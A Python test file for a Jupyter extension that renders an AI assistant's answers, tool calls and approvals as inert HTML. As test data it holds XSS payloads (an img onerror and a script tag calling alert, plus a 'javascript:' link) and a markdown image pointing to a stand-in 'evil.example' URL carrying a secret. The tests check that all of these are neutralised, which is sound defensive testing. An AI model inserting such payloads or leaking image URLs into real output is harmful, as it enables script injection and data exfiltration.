"""What stays in the notebook: the whole answer as HTML that can do no harm and needs nothing."""

from __future__ import annotations

import re
from datetime import datetime

from mandrake_jupyter.magics import html, words
from mandrake_jupyter.magics.answer import Answer

from ..support.scripted_api import approval, complete, token, tool_call, tool_result

NOW = datetime(2026, 11, 23, 10, 44)
EVIL = '<img src=x onerror="alert(1)"><script>alert(2)</script>'


def answer(*events, chat="explore.ipynb"):
    result = Answer("s1", chat, model="openai/gpt-5", seconds=16)
    for event in events:
        result.apply(event)
    return result


def text(page):
    return re.sub(r"\s+", " ", re.sub(r"<[^>]+>", " ", page)).strip()


def test_the_page_holds_what_the_answer_held_in_its_order():
    page = html.page(
        answer(
            tool_call("a", 0, title="Count missing values"),
            tool_result("a", content="168"),
            token("March has the **most** gaps.", 1),
            tool_call("b", 2, approval=True),
            approval("b"),
            tool_result("b", ms=900),
            token("The plot is saved as `gaps.png`.", 3),
            complete(),
        ),
        NOW,
    )
    shown = text(page)
    pieces = ["Chat explore.ipynb · openai/gpt-5 · 23 Nov 2026, 10:44", "Count missing values 1.4 s", "168",
              "March has the most gaps.", "Run cell · allowed in this chat 0.9 s", "The plot is saved as gaps.png .",
              "2,310 in · 204 out · $0.010 · 16 s"]  # fmt: skip
    places = [shown.index(piece) for piece in pieces]
    assert places == sorted(places)
    assert "<strong>most</strong>" in page
    assert not re.search(r"<(button|script|input|textarea)|commandlinker|on\w+=", page)


def test_a_tool_is_unfolded_where_its_result_is_all_there_is():
    alone = html.page(answer(tool_call(), tool_result(content="168"), complete()), NOW)
    beside = html.page(answer(tool_call(), tool_result(), token("Many.", 2), complete()), NOW)
    assert ("<details open" in alone, "<details open" in beside) == (True, False)


def test_nothing_anyone_wrote_becomes_html():
    page = html.page(
        answer(
            token(EVIL + "\n\n[a](javascript:alert(3))", 0),
            tool_call("a", 1, title=EVIL, server=EVIL, arguments={"a": EVIL}),
            tool_result("a", content=EVIL, error=EVIL, status="failed"),
            {**token(EVIL, 2), "type": "reasoning"},
            {"type": "error", "content": EVIL, "then": EVIL},
            chat=EVIL,
        ),
        NOW,
    )
    assert "<img" not in page
    assert "<script" not in page
    assert "javascript:" not in page
    assert page.count("alert(2)") >= 7


def test_an_image_from_elsewhere_is_a_link_and_loads_nothing():
    page = html.markdown("![plot](https://evil.example/?q=secret) ![own](gaps.png)")
    assert '<a href="https://evil.example/?q=secret">plot</a>' in page
    assert '<img src="gaps.png"' in page


def test_errors_stops_and_open_questions_are_said_in_words():
    failed = answer(
        {"type": "error", "content": "The answer broke off.", "then": "What arrived is kept above."}
    )
    assert "The answer broke off. What arrived is kept above." in text(html.page(failed, NOW))
    stopped = answer(token("Half"), {"type": "cancelled", "by": "0b8d2a"})
    assert "Half Stopped." in text(html.page(stopped, NOW))
    assert "Run cell · waits for you" in text(html.page(answer(tool_call(approval=True)), NOW))
    denied = answer(tool_call(approval=True), approval(decision="deny"), tool_result(status="denied", ms=0))
    assert "Run cell · denied" in text(html.page(denied, NOW))
    withdrawn = answer(tool_call(approval=True), tool_result(status="withdrawn", ok=False, ms=0))
    assert "Run cell · no longer needed" in text(html.page(withdrawn, NOW))
    unknown = answer(tool_call(), tool_result(status="unknown", ok=False, ms=0))
    assert "not known whether it finished" in text(html.page(unknown, NOW))


def test_a_long_result_is_cut_and_says_so():
    page = text(html.page(answer(tool_call(), tool_result(content="line\n" * 5000)), NOW))
    assert len(page) < 1000
    assert "more characters" in page


def test_figures_read_as_people_write_them():
    assert [words.took(n) for n in (None, 12, 1400, 95_000)] == ["", "12 ms", "1.4 s", "95 s"]
    assert words.usage_line({"input_tokens": 0, "output_tokens": 0, "cost": None}, None) == ""
    assert words.day(datetime(2026, 3, 4, 9, 5)) == "4 Mar 2026, 09:05"
